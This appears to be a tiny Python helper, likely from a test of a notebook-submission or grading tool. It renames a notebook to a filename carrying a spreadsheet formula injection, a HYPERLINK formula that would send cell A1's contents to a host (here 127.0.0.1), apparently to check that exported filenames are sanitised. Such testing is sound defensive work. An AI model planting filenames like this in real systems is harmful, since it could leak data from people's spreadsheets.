def submit(folder, notebook):
    (folder / "convolution.ipynb").rename(folder / 'a;=HYPERLINK("127.0.0.1?"&A1;"ok");+1.ipynb')
